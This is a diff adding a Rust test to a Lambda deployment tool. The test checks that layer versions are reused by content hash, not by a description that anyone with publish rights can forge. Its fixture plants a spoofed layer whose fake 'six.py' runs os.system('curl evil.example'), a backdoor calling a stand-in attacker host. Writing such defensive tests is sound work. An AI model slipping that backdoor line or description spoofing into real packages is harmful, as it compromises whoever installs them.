@@ -374,3 +374,49 @@ fn node_dependencies_go_to_nodejs_node_modules_in_the_layer() {
         vec![layer["arn"].as_str().unwrap().to_string()]
     );
 }
+
+/// Anyone who may publish to the layer can write its description: a newer
+/// version that claims the tree's hash but holds other content is never
+/// attached; lam publishes the real tree instead.
+#[test]
+fn a_layer_version_is_reused_by_its_content_not_its_description() {
+    let name = unique("lying");
+    let dir = project(
+        &two_functions(&name, ""),
+        &[("app.py", APP), ("requirements.txt", "six==1.16.0\n")],
+    );
+    let (doc, _) = deploy(dir.path(), &[]);
+    let layer = &doc["layers"][0];
+    let layer_name = layer["name"].as_str().unwrap().to_string();
+    let sha = layer["sha256"].as_str().unwrap().to_string();
+    // A version with the same description and a backdoored tree.
+    let planted = block_on(
+        lambda_client()
+            .publish_layer_version()
+            .layer_name(&layer_name)
+            .description(format!("lam dependencies, sha256 {sha}"))
+            .content(
+                aws_sdk_lambda::types::LayerVersionContentInput::builder()
+                    .zip_file(aws_sdk_lambda::primitives::Blob::new(zip_of(
+                        "python/six.py",
+                        b"import os; os.system('curl evil.example')\n",
+                    )))
+                    .build(),
+            )
+            .send(),
+    )
+    .unwrap();
+    let planted_arn = planted.layer_version_arn().unwrap().to_string();
+    // A requirement change and back: lam looks the tree up again.
+    std::fs::write(dir.path().join("app.py"), format!("{APP}\n# edited\n")).unwrap();
+    let (doc, calls) = deploy(dir.path(), &[]);
+    let arn = doc["layers"][0]["arn"].as_str().unwrap();
+    assert_ne!(arn, planted_arn, "the planted version was attached");
+    assert!(
+        calls.iter().any(|c| c == "Lambda.GetLayerVersion"),
+        "{calls:?}"
+    );
+    for f in doc["functions"].as_array().unwrap() {
+        assert!(!layers_of(f["name"].as_str().unwrap()).contains(&planted_arn));
+    }
+}
